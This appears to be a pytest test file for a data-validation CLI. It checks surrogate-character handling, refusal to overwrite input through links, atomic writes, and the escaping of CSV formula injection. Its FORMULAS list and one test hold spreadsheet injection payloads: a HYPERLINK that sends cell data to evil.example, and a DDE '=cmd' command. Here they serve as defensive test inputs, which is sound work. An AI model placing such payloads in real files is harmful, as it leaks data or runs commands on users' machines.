"""Data safety of the headless core (issue 13): unencodable text, outputs never over the input, defused CSV
cells, French messages instead of Python internals, reading limits."""

from __future__ import annotations

import json
import os

import pytest

from plugin.core import cli

ROOT_ARGS = ["--today", "2025-06-01", "--lang", "en"]


def run(capsys, *args):
    code = cli.main(["validate", *map(str, args), *ROOT_ARGS])
    out, err = capsys.readouterr()
    assert "Traceback" not in out + err
    return code, out, err


# ------------------------------------------------------------------------------------------------ item 3
def test_fix_of_a_file_with_lone_surrogates_replaces_and_reports_them(capsys, tmp_path):
    source = tmp_path / "surrogate.json"
    source.write_text('[{"id": "x", "nom": "\\ud800"}]', encoding="utf-8")
    before = source.read_bytes()
    fixed = tmp_path / "corrige.csv"
    code, out, err = run(capsys, source, "--fix", fixed)
    assert code == 1  # errors in the file (required fields), not an internal error (3)
    assert "\ufffd" in fixed.read_text(encoding="utf-8") and source.read_bytes() == before
    assert "Row 1 · id x" in out and "nom · lost-characters" in out  # replaced, and reported where


def test_a_lone_surrogate_in_a_key_is_replaced_too(capsys, tmp_path):
    source = tmp_path / "cle.json"
    source.write_text('[{"id": "x", "col\\udfff": "v"}]', encoding="utf-8")
    code, out, _ = run(capsys, source, "--format", "json")
    report = json.loads(out)
    assert code == 1 and report["rows"] == 1
    assert any(issue["code"] == "lost-characters" for issue in report["issues"])


# ------------------------------------------------------------------------------------------------ item 8
def test_output_onto_a_hard_link_of_the_input_is_refused(capsys, tmp_path, samples):
    source = tmp_path / "lieux.csv"
    source.write_bytes((samples / "bad.csv").read_bytes())
    link = tmp_path / "lien.json"
    os.link(source, link)
    before = source.read_bytes()
    code, _, err = run(capsys, source, "--format", "json", "-o", link)
    assert code == 2 and source.read_bytes() == before and link.read_bytes() == before
    assert "lien.json" in err
    code, _, err = run(capsys, source, "--fix", link)
    assert code == 2 and source.read_bytes() == before


def test_output_onto_a_symlink_of_the_input_is_refused(capsys, tmp_path, samples):
    source = tmp_path / "lieux.csv"
    source.write_bytes((samples / "bad.csv").read_bytes())
    link = tmp_path / "lien.txt"
    link.symlink_to(source)
    code, _, _ = run(capsys, source, "-o", link)
    assert code == 2 and source.read_bytes() == (samples / "bad.csv").read_bytes()


@pytest.fixture
def samples(shared_data):
    path = shared_data / "samples"
    if not path.exists():
        pytest.skip("../shared/data/samples is not available")
    return path


# ------------------------------------------------------------------------------------------------ item 4
@pytest.mark.parametrize("as_stream", [False, True])
def test_the_writer_writes_every_lieu_or_nothing(tmp_path, schema, as_stream):
    from plugin.core.errors import WriteError
    from plugin.core.writers import write_records

    target = tmp_path / "export.csv"
    target.write_text("ancien", encoding="utf-8")
    records = [{"id": "a", "nom": "A"}, {"id": "", "nom": ""}, {"nom": None}, {"id": "d", "latitude": 0}]
    with pytest.raises(WriteError) as info:
        write_records(target, iter(records) if as_stream else records, schema)
    assert info.value.code == "empty-lieux" and "2 " in info.value.message and "2, 3" in info.value.message
    assert target.read_text(encoding="utf-8") == "ancien" and [p.name for p in tmp_path.iterdir()] == ["export.csv"]
    kept = [dict(record, colonne="gardée") for record in records]
    write_records(target, iter(kept) if as_stream else kept, schema, extra=["colonne"])
    from plugin.core.readers import read_table

    assert read_table(target).row_count == 4


# ------------------------------------------------------------------------------------------------ item 5
FORMULAS = ["=1+1", "-2+3", "+33123456789", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1", " =1+1",
            '=HYPERLINK("http://evil.example/?"&A1;"clic")', "\uff1d1+1", "-", "+"]


def assert_no_formula(text: str) -> int:
    """Every cell of a CSV text reads as text in a spreadsheet; returns the number of cells seen."""
    import csv
    import io

    from plugin.core.csv_safety import FORMULA_STARTS

    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not [cell for cell in cells if cell.lstrip(" ").startswith(FORMULA_STARTS)]
    return len(cells)


@pytest.mark.parametrize("value", FORMULAS)
def test_defuse_cell_defuses_every_formula_start(value):
    from plugin.core.csv_safety import defuse_cell

    assert defuse_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Médiathèque", "", "2 rue de la Paix", "a=b", "mairie@reims.fr", 5, None, "'=1"])
def test_defuse_cell_leaves_plain_values(value):
    from plugin.core.csv_safety import defuse_cell

    assert defuse_cell(value) == value


def test_the_producers_report_defuses_every_column():
    from plugin.core.producer_report import issues_csv, lieux_of
    from plugin.core.validation.issues import Issue, Report

    issues = [Issue(row=i + 1, id=formula, field="nom", code="whitespace", severity="warning", message=formula,
                    value=formula, suggestion=formula) for i, formula in enumerate(FORMULAS)]
    report = Report(rows=len(FORMULAS), issues=issues, source="x.csv", schema_version="1.0.2")
    lieux = lieux_of([{"nom": formula, "commune": formula} for formula in FORMULAS])
    text = issues_csv(report, lieux, accepted=[(issues[0], "=cmd|' /C calc'!A0")])
    assert assert_no_formula(text) > 13 * len(FORMULAS)
    assert text.count("'=HYPERLINK(") == 6  # id, nom, commune, message, value, suggestion of that lieu


def test_an_export_on_request_defuses_and_a_conformant_one_does_not(tmp_path, schema):
    from plugin.core.readers import read_table
    from plugin.core.writers import write_records

    records = [{"id": f"l{i}", "nom": formula, "commune": formula} for i, formula in enumerate(FORMULAS)]
    write_records(tmp_path / "conforme.csv", records, schema)
    assert [r["nom"] for r in read_table(tmp_path / "conforme.csv").rows][:3] == FORMULAS[:3]  # values as they are
    write_records(tmp_path / "tableur.csv", records, schema, defuse_formulas=True)
    assert assert_no_formula((tmp_path / "tableur.csv").read_text(encoding="utf-8")) == 32 * (len(FORMULAS) + 1)
